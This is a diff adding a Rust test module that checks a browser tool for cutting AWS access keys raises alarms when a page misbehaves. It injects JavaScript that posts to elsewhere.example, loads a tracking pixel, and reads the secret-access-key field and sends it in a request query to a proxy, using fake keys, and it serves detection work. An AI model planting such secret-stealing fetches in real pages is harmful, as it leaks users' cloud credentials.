@@ -1,0 +1,69 @@
+//! The watchers are awake: what must never happen is made to happen, and found.
+
+use support::{Credentials, Engine, Page, Story};
+
+use crate::steps::type_credentials;
+use crate::{Told, on_moto};
+
+pub const STORIES: &[Told] = &[
+    on_moto("watch::a_request_elsewhere", a_request_elsewhere),
+    on_moto("watch::a_violated_policy", a_violated_policy),
+    on_moto("watch::a_loud_console", a_loud_console),
+    on_moto("watch::a_secret_sent_and_kept", a_secret_sent_and_kept),
+];
+
+fn a_request_elsewhere(story: &Story) {
+    story.open().see_heading("Cut an AWS access key, in this tab");
+    run(story, "fetch('https://elsewhere.example/', { method: 'POST' }).catch(() => {})");
+    story.expect_finding("a request beyond this machine");
+    if story.engine() == Engine::Chromium {
+        story.expect_finding("the page tried https://elsewhere.example/");
+    }
+}
+
+fn a_violated_policy(story: &Story) {
+    story.open().see_heading("Cut an AWS access key, in this tab");
+    run(
+        story,
+        "document.body.append(Object.assign(new Image(), { src: 'https://pixel.example/' }))",
+    );
+    story.expect_finding("the page's policy was violated");
+    story.expect_finding("pixel.example");
+}
+
+fn a_loud_console(story: &Story) {
+    // Its driver tells nothing of the console, so there is nothing to be awake to.
+    if story.engine() == Engine::Webkit {
+        return;
+    }
+    story.open().see_heading("Cut an AWS access key, in this tab");
+    story.browser().go(&story.notepad().loud_url());
+    Page::new(story.browser()).button("Complain").click();
+    story.expect_finding("said aloud");
+    story.expect_finding("thrown aloud");
+}
+
+fn a_secret_sent_and_kept(story: &Story) {
+    let key = story.watch(Credentials::key(
+        "AKIALEAKEDLEAKED1234",
+        "leaked/leaked+leaked/leaked+leaked/leak+",
+    ));
+    type_credentials(&story.open(), &key);
+    let endpoint = story.proxy().url();
+    let secret = "encodeURIComponent(document.getElementById('secret-access-key').value)";
+    run(
+        story,
+        &format!("fetch('{endpoint}?s=' + {secret}, {{ method: 'POST' }}).catch(() => {{}})"),
+    );
+    story.expect_finding("a secret is in the request POST");
+    story.expect_finding("the endpoint was asked by a query");
+    if story.engine() == Engine::Chromium {
+        story.expect_finding("a secret is in a request to");
+    }
+    run(story, &format!("localStorage.setItem('s', {secret})"));
+    story.expect_finding("a secret is kept in localStorage");
+}
+
+fn run(story: &Story, script: &str) {
+    story.browser().script(script, vec![]).expect("the script runs");
+}
